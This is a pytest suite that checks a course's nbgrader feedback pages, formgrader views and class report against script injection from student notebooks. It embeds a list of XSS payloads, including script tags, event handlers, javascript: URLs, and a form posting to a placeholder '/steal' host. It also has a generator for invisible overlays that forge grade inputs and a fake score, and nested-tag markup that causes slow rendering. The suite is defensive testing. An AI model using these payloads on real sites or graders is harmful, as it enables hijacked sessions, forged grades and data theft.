"""Nothing a student writes runs or fetches in the instructor's browser (issue 21), in process.

A table of attacks goes into a notebook as markdown cells, as text/html, text/markdown,
application/javascript and image/svg+xml outputs, as output metadata, and as the
messages of exceptions that become diagnoses. The notebook goes through the exporter
nbgrader's GenerateFeedback builds from nbgrader_config.py (with the course's feedback
preprocessors) and through the one formgrader builds, and the diagnoses through the
class report (grader/report.py). ``active_content`` parses each page with html.parser
and lists what could run or fetch: script, frame, embed, form, meta, base, link, style,
svg and math elements, on* attributes, javascript:/vbscript:/data: URLs, images and
links that leave the page, url() in styles. An honest page rendered the same way is
the baseline (the template's own scripts and styles); nothing beyond it may appear.

The same attacks through stock nbconvert settings must be found (the detector works),
and an honest notebook must read the same, headings, tables, math and PNG figures
included, as with stock settings. The browser test (tests/test_browser.py) opens such
pages in chromium.
"""
from __future__ import annotations

import base64
import copy
import functools
import html
import re
import struct
import zlib
from collections import Counter
from html.parser import HTMLParser

import nbformat
import pytest
from nbconvert.exporters import HTMLExporter
from traitlets.config import Config

from grader import course, report
from grader.classgrades import ClassGrades, Submission
from grader.feedback import diagnose
from grader import sanitize, tutor
from grader.sanitize import clean_html, one_line, text_html
from tests.scope import spread

EVIL = "203.0.113.9"  # TEST-NET-3: a server the page must never ask
# (name, payload): each used as markdown, HTML and markdown output, and exception message
ATTACKS = [
    ("script", "<script>window.__pwned = 1; alert(1)</script>"),
    ("img onerror", '<img src=x onerror="window.__pwned = 1">'),
    ("svg onload", '<svg onload="window.__pwned = 1"><circle r="5"/></svg>'),
    ("iframe srcdoc", '<iframe srcdoc="<script>parent.__pwned = 1</script>"></iframe>'),
    ("a javascript:", '<a href="javascript:window.__pwned = 1">click</a>'),
    ("a java&tab;script:", '<a href="jav&#x09;ascript:window.__pwned = 1">click</a>'),
    ("a vbscript:", '<a href="vbscript:msgbox(1)">v</a>'),
    ("a data:text/html", '<a href="data:text/html,<script>alert(1)</script>">d</a>'),
    ("meta refresh", f'<meta http-equiv="refresh" content="0;url=http://{EVIL}/">'),
    ("base href", f'<base href="http://{EVIL}/">'),
    ("form action", f'<form action="http://{EVIL}/steal"><input name=q>'
                    '<button formaction="javascript:window.__pwned = 1">go</button></form>'),
    ("style @import url()", f"<style>@import url(http://{EVIL}/a.css); body {{ background: url(http://{EVIL}/b.png) }}</style>"),
    ("style attribute url()", f'<p style="background: url(http://{EVIL}/c.png)">styled</p>'),
    ("img http", f'<img src="http://{EVIL}/pixel.png">'),
    ("img srcset", f'<img src="data:image/png;base64,iVBORw0KGgo=" srcset="http://{EVIL}/s.png 2x">'),
    ("object data", f'<object data="http://{EVIL}/x.swf"></object><embed src="http://{EVIL}/e.swf">'),
    ("link stylesheet", f'<link rel="stylesheet" href="http://{EVIL}/l.css">'),
    ("video poster", f'<video poster="http://{EVIL}/p.png"><source src="http://{EVIL}/v.mp4"></video>'),
    ("details ontoggle", '<details open ontoggle="window.__pwned = 1">d</details>'),
    ("attribute-breaking quotes", "<a href=\"#\" title='x\" onmouseover=\"window.__pwned = 1'>q</a>"
                                  '<img alt="a" title="&quot; onerror=&quot;window.__pwned = 1">'),
    ("mathml mutation", "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>"),
    ("markdown javascript link", "[click](javascript:window.__pwned=1)"),
    ("markdown image http", f"![pixel](http://{EVIL}/md.png)"),
    ("markdown relative link", "[the gradebook](../../gradebook.db)"),
    ("unbalanced math", "$\\frac{1}{$ and \\$ and $$"),
]
JAVASCRIPT = "window.__pwned = 1; alert('js output')"
SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned = 1"><script>alert(1)</script></svg>'


def tiny_png(size: int = 8) -> str:
    """A real PNG (a red square), base64, as matplotlib's outputs are stored."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    rows = b"".join(b"\x00" + b"\xff\x00\x00" * size for _ in range(size))
    png = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", size, size, 8, 2, 0, 0, 0))
           + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))
    return base64.b64encode(png).decode()


# ---------------------------------------------------------------------------- the detector

_ACTIVE_TAGS = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "meta", "base",
                "link", "style", "svg", "math", "video", "audio", "source", "track", "input", "button",
                "textarea", "select", "template", "portal", "noscript"}
_URL_ATTRS = {"href", "src", "action", "formaction", "data", "poster", "background", "xlink:href", "cite",
              "ping", "codebase", "manifest", "lowsrc", "dynsrc", "longdesc", "srcdoc"}
_NOISE = re.compile(r"[\x00-\x20\x7f]+")


class _Finder(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._raw: str | None = None

    def handle_starttag(self, tag, attrs):
        where = f"<{tag}>"
        if tag in _ACTIVE_TAGS:
            self.found.append(f"element {where} {sorted((k, v) for k, v in attrs if k != 'id')}")
        for name, value in attrs:
            value = value or ""
            url = _NOISE.sub("", value).lower()
            if name.startswith("on"):
                self.found.append(f"handler {where} {name}={value!r}")
            elif name == "srcset":
                self.found.append(f"srcset {where} {value!r}")
            elif name == "style" and re.search(r"url\(|@import|expression|image-set", value, re.I):
                self.found.append(f"style fetch {where} {value!r}")
            elif name in _URL_ATTRS:
                if url.startswith(("javascript:", "vbscript:", "data:text", "data:application")):
                    self.found.append(f"script URL {where} {name}={value!r}")
                elif tag == "img" and name == "src":
                    if not url.startswith("data:image/"):
                        self.found.append(f"image fetch {where} {value!r}")
                elif name != "href" or tag != "a" or not url.startswith(("#", "http:", "https:", "mailto:")):
                    self.found.append(f"URL {where} {name}={value!r}")
        if tag in ("script", "style"):
            self._raw = tag

    def handle_data(self, data):
        if self._raw:
            self.found.append(f"{self._raw} text {data.strip()[:200]!r}")

    def handle_endtag(self, tag):
        self._raw = None


def active_content(page: str, baseline: str | None = None) -> list[str]:
    """What in ``page`` could run or fetch, beyond what ``baseline`` (an honest page
    rendered the same way: the template's own scripts) has."""
    found = Counter(_find(page))
    if baseline is not None:
        found -= Counter(_find(baseline))
    return sorted(found.elements())


def _find(page: str) -> list[str]:
    finder = _Finder()
    finder.feed(page)
    finder.close()
    return finder.found


class _Text(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.text, self.tags, self._skip = [], Counter(), 0

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        self.tags[tag] += a.get("class") != "user-content"  # sanitize's box around a cell: not prose
        if tag == "img" and (a.get("src") or "").startswith("data:image/png;base64,"):
            self.tags["png figure"] += 1
        self._skip += tag in ("script", "style")

    def handle_endtag(self, tag):
        self._skip -= tag in ("script", "style") and self._skip > 0

    def handle_data(self, data):
        if not self._skip:
            self.text.append(data)


def readable(page: str) -> tuple[str, Counter]:
    """The page's visible text (whitespace collapsed) and its element counts, with
    ``png figure`` counting images that show an embedded PNG."""
    parser = _Text()
    parser.feed(page)
    return " ".join("".join(parser.text).split()), parser.tags


class _Names(HTMLParser):
    """Every id, name, for, href and class token of a page, and the classes and ids of
    each element inside the sanitizer's boxes (``div.user-content``)."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.names: dict[str, list[str]] = {"id": [], "name": [], "for": [], "href": [], "class": []}
        self.boxed: list[tuple[str, str]] = []  # (attribute, value) inside a box
        self.boxed_text = ""
        self._stack: list[tuple[str, bool]] = []

    def handle_data(self, data):
        if any(b for _, b in self._stack):
            self.boxed_text += data

    def handle_starttag(self, tag, attrs):
        a = {k: v or "" for k, v in attrs}
        boxed = any(b for _, b in self._stack)
        for key in self.names:
            if key in a:
                self.names[key] += a[key].split() if key == "class" else [a[key]]
                if boxed and key != "href":
                    self.boxed += [(key, v) for v in (a[key].split() if key == "class" else [a[key]])]
        if tag not in _VOID:
            self._stack.append((tag, a.get("class") == "user-content"))

    def handle_endtag(self, tag):
        while self._stack:
            if self._stack.pop()[0] == tag:
                break


_VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"}


def _names(page: str) -> dict[str, list[str]]:
    return _parsed(page).names


def _parsed(page: str) -> _Names:
    parser = _Names()
    parser.feed(page)
    parser.close()
    return parser


# What positions or layers an element in the pages' CSS (Bootstrap 3 in formgrader and
# the feedback, Bootstrap 4/5 and JupyterLab names a later template could bring).
LAYERING_CLASSES = ["navbar-fixed-top", "navbar-fixed-bottom", "navbar-static-top", "affix", "affix-top",
                    "modal", "modal-backdrop", "fade", "in", "show", "dropdown-menu", "popover", "tooltip",
                    "position-fixed", "position-absolute", "fixed-top", "fixed-bottom", "sticky-top",
                    "invisible", "hidden", "sr-only", "pull-right", "jp-Dialog", "lm-Widget", "p-Widget"]


def hijacking_markdown(page: str) -> str:
    """Markdown that copies every id, name, for and class of ``page`` (formgrader's grade
    inputs, comment boxes, buttons, the feedback's anchors and score) and lays an
    invisible full-page layer and a fake score over it, with no script."""
    names = _names(page)
    ids = sorted(set(names["id"]) | set(names["name"]) | set(names["for"]))
    classes = " ".join(sorted(set(names["class"]) | set(LAYERING_CLASSES)))
    fake = ('<div class="navbar navbar-default navbar-fixed-top modal-backdrop in" '
            'style="position: fixed; top: 0; left: 0; width: 100%; height: 100%; z-index: 99999; opacity: 0">'
            '<div class="nbgrader_cell"><span class="btn btn-success full-credit" id="similarity-dot_product">'
            '<input class="score" id="similarity-dot_product"></span></div></div>'
            '<h4 class="fixed-top position-fixed sticky-top">Score: 10.0 / 10.0</h4>')
    copies = "".join(f'<span id="{i}" name="{i}"><label for="{i}" class="{classes}">{i}</label></span>' for i in ids)
    return f"## {ids[0] if ids else 'x'}\n\n{fake}\n\n<div class=\"{classes}\">{copies}</div>\n\n[top](#top)"


# ---------------------------------------------------------------------------- the pages

def stock_config() -> Config:
    """The course's nbgrader configuration with nbconvert's HTML settings as shipped."""
    config = course.load_config()
    for trait in ("sanitize_html", "filters", "preprocessors", "skip_svg_encoding"):
        config.HTMLExporter.pop(trait, None)
    return config


@functools.lru_cache(maxsize=None)
def _feedback_exporter(stock: bool):
    """The exporter nbgrader's GenerateFeedback builds from nbgrader_config.py (or from
    ``stock_config()``), with its preprocessors in its order; GetGrades, which reads the
    gradebook, is left out: ``graded`` does its work. Built once: that is the slow part."""
    from nbgrader.converters import GenerateFeedback
    from nbgrader.coursedir import CourseDirectory

    config = stock_config() if stock else course.load_config()
    converter = GenerateFeedback(coursedir=CourseDirectory(config=config), config=config)
    exporter = converter.exporter_class(parent=converter, config=converter.config)
    for preprocessor in converter.preprocessors:
        if preprocessor != "nbgrader.preprocessors.GetGrades":
            exporter.register_preprocessor(preprocessor)
    return exporter


def feedback_page(nb, stock: bool = False, student: str = "mallory") -> str:
    """``nb`` (graded: see ``graded``) as nbgrader's feedback shows it."""
    resources = {"nbgrader": {"notebook": "01_similarity", "assignment": "01_similarity", "student": student,
                              "score": 1.0, "max_score": 10.0, "late_penalty": 0.0},
                 "metadata": {"name": "01_similarity", "path": str(course.ROOT)}}
    page, _ = _feedback_exporter(stock).from_notebook_node(copy.deepcopy(nb), resources=resources)
    return page


@functools.lru_cache(maxsize=None)
def _classic_exporter(stock: bool):
    """nbconvert's HTMLExporter (classic, as the feedback and formgrade templates extend it)."""
    config = stock_config() if stock else course.load_config()
    config.HTMLExporter.template_name = "classic"
    return HTMLExporter(config=config)


@functools.lru_cache(maxsize=None)
def _formgrade_exporter(stock: bool):
    from nbgrader.server_extensions.formgrader import handlers

    config = stock_config() if stock else course.load_config()
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    return HTMLExporter(config=config)


def formgrade_page(nb, stock: bool = False, student: str = "mallory") -> str:
    """``nb`` as formgrader shows an autograded notebook: ``HTMLExporter(config=...)``
    with the extra config FormgradeExtension adds, and the handler's resources."""
    resources = {"assignment_id": "01_similarity", "notebook_id": "01_similarity", "submission_id": "abc",
                 "index": 0, "total": 1, "base_url": "", "student": student, "last_name": None,
                 "first_name": None, "notebook_path": "autograded/x/01_similarity/01_similarity.ipynb"}
    page, _ = _formgrade_exporter(stock).from_notebook_node(copy.deepcopy(nb), resources=resources)
    return page


def graded(nb, message: str | None = None):
    """``nb`` as autograde and GetGrades leave it: each test cell failed with an error
    whose message is ``message`` (its diagnosis is ``diagnose`` of it, as
    grader.verify stores it), each answer cell's comment that diagnosis."""
    nb = copy.deepcopy(nb)
    verdicts = {}
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if cell.cell_type == "code" and meta.get("grade") and not meta.get("solution"):
            exercise = course.exercise_id(meta["grade_id"])
            if message is None:
                diagnosis = None
            else:
                cell.outputs = [nbformat.v4.new_output("error", ename="ValueError", evalue=message,
                                                       traceback=["Traceback (most recent call last)", message])]
                diagnosis = diagnose(cell)
            cell.metadata["attention_course"] = {"exercise": exercise, "passed": diagnosis is None,
                                                 "diagnosis": diagnosis}
            meta["score"] = 0.0 if diagnosis else float(meta["points"])
            verdicts[exercise] = diagnosis
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("solution"):
            meta["comment"] = verdicts.get(meta["grade_id"])
    return nb


def honest(cells: int | None = None) -> nbformat.NotebookNode:
    """Ada's submission of 01 (sample_class), or its first ``cells`` cells, with figures
    under its "See it" cells."""
    nb = nbformat.read(course.SAMPLE_CLASS / "ada" / "01_similarity" / "01_similarity.ipynb", as_version=4)
    nb.cells = nb.cells[:cells]
    for cell in nb.cells:
        if cell.cell_type == "code" and not cell.metadata.get("nbgrader"):
            cell.outputs = [nbformat.v4.new_output("stream", text="scores: (4,) [0.5 1.2]\n"),
                            nbformat.v4.new_output("display_data", data={"image/png": tiny_png(),
                                                                         "text/plain": "<Figure size 640x480 with 1 Axes>"})]
    return nb


def attacked() -> nbformat.NotebookNode:
    """``honest()`` with every attack as a markdown cell and as outputs of every kind."""
    nb = honest()
    attack_cell = nbformat.v4.new_code_cell("show_everything()")
    for name, payload in ATTACKS:
        nb.cells.append(nbformat.v4.new_markdown_cell(f"### {name}\n\n{payload}\n\ninline: x {payload} y"))
        attack_cell.outputs += [
            nbformat.v4.new_output("display_data", data={"text/html": payload}),
            nbformat.v4.new_output("display_data", data={"text/markdown": payload}),
        ]
    attack_cell.outputs += [
        nbformat.v4.new_output("display_data", data={"application/javascript": JAVASCRIPT}),
        nbformat.v4.new_output("display_data", data={"image/svg+xml": SVG}),
        nbformat.v4.new_output("display_data", data={"text/html": "<b>isolated</b><script>alert(1)</script>"},
                               metadata={"text/html": {"isolated": True}}),
        nbformat.v4.new_output("display_data", data={"application/vnd.jupyter.widget-view+json": {
            "model_id": "x", "version_major": 2, "version_minor": 0}, "text/plain": "widget"}),
        # metadata the classic template writes into <img ...>: unquoted sizes, a src
        nbformat.v4.new_output("display_data", data={"image/png": "not base64"},
                               metadata={"image/png": {"width": "1 onerror=window.__pwned=1", "height": "2 src=x"}}),
        nbformat.v4.new_output("display_data", data={"image/png": tiny_png()},
                               metadata={"filenames": {"image/png": f"http://{EVIL}/f.png"}}),
        nbformat.v4.new_output("display_data", data={"image/png": tiny_png()},
                               metadata={"image/png": {"alt": '" onerror="window.__pwned=1'}}),
    ]
    nb.cells.append(attack_cell)
    nb.cells.append(nbformat.v4.new_raw_cell("<script>alert('raw')</script>", metadata={"raw_mimetype": "text/html"}))
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}, "version_major": 2}}
    return nb


MESSAGES = [payload for _, payload in ATTACKS] + [
    "line one\n\n[phish](http://203.0.113.9/) <img src=x onerror=alert(1)>",
    "\x1b]0;title\x07\x1b[31mred\x00 \u202e" + "long " * 500,
]


@pytest.fixture(scope="module")
def baselines() -> dict[str, str]:
    nb = graded(honest(), message="f(a) returned the wrong shape")
    return {"feedback": feedback_page(nb), "formgrade": formgrade_page(nb),
            "feedback-9": feedback_page(graded(honest(cells=9), message="f(a) returned the wrong shape"))}


# ---------------------------------------------------------------------------- the tests

@pytest.mark.parametrize("page", ["feedback", "formgrade"])
def test_no_attack_survives_in_feedback_or_formgrader(baselines, page):
    render = feedback_page if page == "feedback" else formgrade_page
    found = active_content(render(graded(attacked(), message="f(a) returned the wrong shape")), baselines[page])
    assert not found, "\n".join(found)


@pytest.mark.parametrize("message", MESSAGES, ids=[n for n, _ in ATTACKS] + ["blank line and link", "controls"])
def test_an_exception_message_is_text_in_the_diagnosis_and_the_feedback(baselines, message):
    nb = graded(honest(cells=9), message=message)  # up to the first exercise's test and figure
    page = feedback_page(nb)
    assert not active_content(page, baselines["feedback-9"])
    diagnosis = next(c.metadata["attention_course"]["diagnosis"] for c in nb.cells if "attention_course" in c.metadata)
    assert "\n" not in diagnosis and not re.search(r"[\x00-\x1f\x7f\u202e]", diagnosis) and len(diagnosis) <= 500
    text, _ = readable(page)
    # the learner reads what the code raised, as characters, in the summary, the
    # comment under the test cell, its error line and the comment under the answer cell
    assert text.count(one_line(diagnosis)) >= 4, (diagnosis, text[:2000])


def test_the_detector_finds_every_kind_of_attack_in_stock_nbconvert(baselines):
    """With nbconvert's settings as shipped, the attacks run: this file's checks can fail."""
    nb = graded(attacked(), message="<img src=x onerror=window.__pwned=1>")
    found = "\n".join(active_content(feedback_page(nb, stock=True), feedback_page(graded(honest(), "x"), stock=True)))
    for needle in ("<script> ", "onerror", "onload", "<iframe>", "javascript:", "<meta>", "<base>", "<form>",
                   "style text", "image fetch", "<object>", "srcset", "style fetch", "ontoggle"):
        assert needle in found, needle
    found = "\n".join(active_content(formgrade_page(nb, stock=True), formgrade_page(graded(honest(), "x"), stock=True)))
    assert "onerror" in found and "javascript:" in found and "script text" in found


@pytest.mark.parametrize("render", [feedback_page, formgrade_page])
def test_an_honest_notebook_reads_the_same_as_with_stock_settings(render):
    nb = graded(honest(), message="f(a) for a of shape (2, 3): expected 0.5, got 0.25")
    text, tags = readable(render(nb))
    stock_text, stock_tags = readable(render(nb, stock=True))
    assert text == stock_text
    for tag in ("h1", "h2", "p", "table", "tr", "code", "pre", "em", "strong", "ul", "li", "png figure"):
        assert tags[tag] == stock_tags[tag], tag
    source = nbformat.read(course.SAMPLE_CLASS / "ada" / "01_similarity" / "01_similarity.ipynb", as_version=4)
    headings = sum(line.startswith("#") for c in source.cells if c.cell_type == "markdown" for line in c.source.splitlines())
    assert tags["h1"] + tags["h2"] + tags["h3"] >= headings
    assert tags["png figure"] == sum(1 for c in source.cells if c.cell_type == "code" and not c.metadata.get("nbgrader"))
    assert "$a, b \\in" in text  # math is left to MathJax, as written


@pytest.mark.parametrize("assignment_id", spread(course.assignments()))
def test_the_course_s_prose_passes_the_sanitizer_unchanged(assignment_id):
    """Every markdown cell of every notebook reads the same cleaned as not."""
    exporter, plain = _classic_exporter(False), _classic_exporter(True)
    for name in course.notebook_names(assignment_id):
        nb = nbformat.read(course.NOTEBOOKS / assignment_id / f"{name}.ipynb", as_version=4)
        markdown = nbformat.v4.new_notebook(cells=[c for c in nb.cells if c.cell_type == "markdown"])
        ours, stock = exporter.from_notebook_node(markdown)[0], plain.from_notebook_node(markdown)[0]
        assert readable(ours) == readable(stock)
        # every class the renderers gave the prose and the code is kept (the allowlist
        # is what they emit), and every in-page link still finds its target
        code = nbformat.v4.new_notebook(cells=[c for c in nb.cells if c.cell_type != "raw"])
        ours, stock = exporter.from_notebook_node(code)[0], plain.from_notebook_node(code)[0]
        assert set(_names(stock)["class"]) <= set(_names(ours)["class"])
        names = _names(ours)
        assert {href[1:] for href in names["href"] if href.startswith("#") and len(href) > 1} <= set(names["id"])


def test_clean_html_keeps_prose_and_drops_what_runs_or_fetches():
    prose = ('<h2 id="x">Title<a class="anchor-link" href="#x">¶</a></h2><p><em>a</em> <strong>b</strong> '
             '<code>&lt;pad&gt;</code> $\\frac{a}{b}$ <sub>i</sub><sup>2</sup><br></p><blockquote><p>q</p></blockquote>'
             '<ol start="2"><li>x</li></ol><hr><pre><code class="language-python">x &lt; 1</code></pre>'
             '<table><thead><tr><th style="text-align: right;">h</th></tr></thead><tbody><tr><td>1</td></tr>'
             '</tbody></table><a href="https://example.org/">w</a> <a href="mailto:t@example.org">m</a> '
             f'<img alt="fig" src="data:image/png;base64,{tiny_png()}">')
    assert readable(clean_html(prose)) == readable(prose)
    assert clean_html("<b>x</b> $a<b$") == "<b>x</b> $a&lt;b$"
    for _, payload in ATTACKS:
        assert not active_content(clean_html(payload)), payload
    assert clean_html(b"<i>bytes</i>") == "<i>bytes</i>"


def test_text_is_one_escaped_line_whatever_it_holds():
    assert one_line("a\nb\r\n\tc\x00d\x1b[31me\x1b]0;t\x07f\u202eg\ud800h") == "a b c def g\ufffdh"
    assert len(one_line("x" * 10_000)) == 500 and one_line("x" * 10_000).endswith("…")
    assert text_html('<a href="x">$1\\$</a>') == "&lt;a href=&quot;x&quot;&gt;&#36;1&#92;&#36;&lt;/a&gt;"
    assert html.unescape(text_html("나는 ünï $x$")) == "나는 ünï $x$"
    assert one_line(ValueError("x\ny")) == "x y"


def test_the_report_is_text_and_written_whatever_a_student_wrote(monkeypatch, tmp_path):
    """Diagnoses and ids that are HTML, mathtext, controls, surrogates, Hangul or 20,000
    characters long: the page shows them as text, the figures draw them, nothing fails."""
    import matplotlib.image

    hostile = ["$\\frac{1}{$", "<script>window.__pwned = 1</script>", '<img src=x onerror="window.__pwned = 1">',
               "[click](javascript:alert(1)) $$ \\", "a\x00b\x1b[31mc\x07\r\nd\u202ee", "\ud800 unpaired",
               "나는 고기를 먹었다 · ünïcödé", "^_{}\\ $x^2$", "x" * 20_000, f'<svg onload="alert(1)"> <a href="http://{EVIL}">']
    assignment, exercise = "01_$\\frac{1}{$<b>", "similarity-dot_$product</td>"
    subs = [Submission(f"s{i:02d}<i>", assignment, True, 0.0, {exercise: 0.0}, {exercise: 1.0},
                       {exercise: f"dot_product(a, b): {m}"}) for i, m in enumerate(hostile)]
    assert len(hostile) <= report.TOP_MISTAKES  # each one is listed
    grades = ClassGrades([s.student_id for s in subs], {assignment: {exercise: 1.0}}, subs)
    monkeypatch.setattr(report, "read", lambda *a, **k: grades)
    monkeypatch.setattr(report, "gradebook_url", lambda *a, **k: "sqlite://")
    written = {p.name: p for p in report.write_report(tmp_path / "hostile", progress=False)}
    page = written["index.html"].read_text(encoding="utf-8")
    fair = ClassGrades(["ada"], {"01_similarity": {"similarity-dot_product": 1.0}}, [Submission(
        "ada", "01_similarity", True, 0.0, {"similarity-dot_product": 0.0}, {"similarity-dot_product": 1.0},
        {"similarity-dot_product": "dot_product(a, b) for a of shape (3,): expected 2, got 3"})])
    monkeypatch.setattr(report, "read", lambda *a, **k: fair)
    baseline = report.write_report(tmp_path / "fair", progress=False)[0].read_text(encoding="utf-8")
    assert not active_content(page, baseline)
    head = page[page.index("<head>") + len("<head>"):].lstrip()
    assert head.startswith('<meta http-equiv="Content-Security-Policy" content="default-src \'none\';')
    text, tags = readable(page)
    for m in hostile:
        assert one_line(f"dot_product(a, b): {m}") in text, m
    assert one_line(assignment) in text and one_line(exercise) in text
    assert tags["li"] == len(hostile)
    for name in ("scores.png", "pass_rate.png", "mistakes.png"):
        assert matplotlib.image.imread(written[name]).shape[0] > 100


def test_the_report_s_policy_allows_its_own_style_and_nothing_else():
    import hashlib

    policy = report.content_security_policy()
    digest = base64.b64encode(hashlib.sha256(report.STYLE.encode()).digest()).decode()
    assert policy.startswith("default-src 'none';") and f"style-src 'sha256-{digest}'" in policy
    assert "script-src" not in policy and "unsafe" not in policy and "img-src 'self'" in policy


def test_an_instructor_s_manual_comment_stays_markdown_and_is_cleaned():
    nb = graded(honest(cells=9), message="f(a) returned the wrong shape")
    answer = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("solution"))
    answer.metadata.nbgrader["comment"] = ("Nice work: see **section 2** and [the docs](https://numpy.org/doc/).\n\n"
                                           "<script>alert(1)</script> ![x](http://203.0.113.9/c.png)")
    page = feedback_page(nb)
    assert '<strong>section 2</strong>' in page and '<a href="https://numpy.org/doc/">the docs</a>' in page
    assert not active_content(page, feedback_page(graded(honest(cells=9), message="f(a) returned the wrong shape")))
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page  # shown as text, not run


@pytest.mark.parametrize("page", ["feedback", "formgrade"])
def test_student_markup_takes_no_id_name_for_or_class_of_the_page(baselines, page):
    """Issue 32, failures 2 and 3: markdown that copies formgrader's and the feedback's own
    ids (the grade inputs formgrader binds with $("#" + grade_id)) and classes
    (nbgrader_cell, score, full-credit, Bootstrap's navbar-fixed-top, modal-backdrop)
    keeps none of them: each id, name and for of the honest page is there exactly as
    often as before; what the student wrote is in the user-content- namespace and keeps
    only the renderers' classes, inside the sanitizer's box."""
    render = feedback_page if page == "feedback" else formgrade_page
    honest_page = baselines[page]
    nb = graded(honest(), message="f(a) returned the wrong shape")
    attack = hijacking_markdown(honest_page)
    nb.cells.insert(2, nbformat.v4.new_markdown_cell(attack))
    nb.cells.insert(3, nbformat.v4.new_code_cell("show()", outputs=[
        nbformat.v4.new_output("display_data", data={"text/html": attack}),
        nbformat.v4.new_output("display_data", data={"text/markdown": attack})]))
    ours, before = _parsed(render(nb)), _parsed(honest_page)
    for key in ("id", "name", "for"):
        added = Counter(ours.names[key]) - Counter(before.names[key])
        added -= Counter(f"cell-id={c.id}" for c in nb.cells[2:4])  # the template's, for the two new cells
        assert all(v.startswith(sanitize.ID_PREFIX) for v in added), (key, sorted(added)[:10])
        assert not Counter(before.names[key]) - Counter(ours.names[key])
    boxed = Counter(ours.boxed) - Counter(before.boxed)
    def students(attribute: str, value: str) -> bool:
        if attribute == "id":
            return value.startswith(sanitize.ID_PREFIX)
        return value in sanitize.STUDENT_CLASSES or bool(sanitize.LEXER_CLASS.fullmatch(value))

    assert boxed and all(students(k, v) for k, v in boxed), sorted(boxed)[:10]
    # what the student wrote is all in boxes (so every class and id of it was checked above)
    assert ours.boxed_text.count("Score: 10.0 / 10.0") == 3, "markdown cell, text/html and text/markdown output"
    assert sum(len(v) for v in _parsed(render(nb)).names.values()) == sum(len(v) for v in ours.names.values())


def test_ids_are_namespaced_once_and_in_page_links_follow_them():
    cleaned = clean_html('<h2 id="Masks">Masks<a class="anchor-link" href="#Masks">¶</a></h2>'
                         '<p id="a b" class="modal highlight k">x</p><a href="#">top</a><a href="#score">s</a>')
    assert cleaned == ('<h2 id="user-content-Masks">Masks<a class="anchor-link" href="#user-content-Masks">¶</a></h2>'
                       '<p id="user-content-a user-content-b" class="highlight k">x</p><a href="#">top</a>'
                       '<a href="#user-content-score">s</a>')
    assert clean_html(cleaned) == cleaned  # nbconvert cleans a text/markdown output twice
    assert sanitize.student_html("<p>x</p>") == f'<div class="user-content" style="{sanitize.CONTAIN}"><p>x</p></div>'


def test_only_the_tutor_s_own_cells_keep_their_ids_and_classes():
    """The tutor's summary keeps its anchors and table classes; a student's cell that
    carries the tutor's metadata key (any value) is a student's cell."""
    markup = '<div class="tutor-summary table" id="tutor-x">Score: 10 / 10</div>'
    own = tutor._markdown(markup)
    forged = nbformat.v4.new_markdown_cell(markup, metadata={key: "0" * 32 for key in own.metadata})
    page = feedback_page(nbformat.v4.new_notebook(cells=[own, forged]))
    assert page.count('<div class="tutor-summary table" id="tutor-x">') == 1
    assert page.count('<div id="user-content-tutor-x">') == 1


# Shapes of markup whose cleaning was quadratic (html5lib's tree building costs the depth
# of the open elements per tag, its etree walker the number of siblings per step up):
# (name, markup for k units, k at 1x).
COSTLY = [
    ("misnested <b><i> (issue 32)", lambda k: "<b><i>" * k + "x" + "</b></i>" * k, 1000),
    ("formatting with distinct attributes", lambda k: "".join(f'<b><i title="{j}"></b>x' for j in range(k)), 300),
    ("deep divs", lambda k: "<div>" * k + "x", 1000),
    ("unclosed spans and stray ends", lambda k: "<span></b>" * k, 800),
    ("many paragraphs", lambda k: "<p>x <b>y</b> <code>z</code></p>" * k, 1500),
]


def _cpu(text: str) -> float:
    """The least CPU time of three cleanings of ``text`` (CPU, not wall time: others'
    load does not count)."""
    import time

    best = float("inf")
    for _ in range(3):
        start = time.process_time()
        clean_html(text)
        best = min(best, time.process_time() - start)
    return best


@pytest.mark.parametrize("make, k", [(m, k) for _, m, k in COSTLY], ids=[n for n, _, _ in COSTLY])
def test_the_sanitizer_s_cost_is_linear_in_the_input(make, k):
    """Issue 32, failure 4: four times the markup costs about four times as much (a
    quadratic cost would be sixteen); the bound leaves room for noise, not for a square."""
    assert _cpu(make(4 * k)) < 8 * _cpu(make(k))


def test_a_cell_of_16000_nested_tags_costs_less_than_as_much_prose():
    """Issue 32, failure 4, as reported: one markdown cell of 16,000 nested <b><i>
    (93 KiB) made the feedback page cost seconds, most of a grading unit, and twice the
    payload four times that. Now it reads as text after a note and its page costs
    about what a page with as much honest prose (markdown, code, math, links) costs, and
    twice the payload about twice as much. The bounds (twice the prose's cost, three
    times the payload's) leave room for a loaded machine, not for the seconds of a
    square; `make bench` prints the ratios themselves (bench/sanitize.py)."""
    import time

    def page_cpu(text: str) -> tuple[float, str]:
        nb = graded(honest(cells=9), message="f(a) returned the wrong shape")
        nb.cells.insert(3, nbformat.v4.new_markdown_cell(text))
        best = float("inf")
        for _ in range(2):
            start = time.process_time()
            page = feedback_page(nb)
            best = min(best, time.process_time() - start)
        return best, page

    payload = "<b><i>" * 16_000
    prose = "The **mask** sets `scores[i, j]` to $-\\infty$ where *j > i*: see [the docs](https://pytorch.org/).\n\n"
    (costly, page), (twice, _) = page_cpu(payload), page_cpu(payload * 2)
    plain, _ = page_cpu(prose * (len(payload) // len(prose)))
    assert costly < 2 * plain and twice < 3 * costly, (costly, twice, plain)
    assert f"nests more than {sanitize.MAX_DEPTH} elements deep" in page
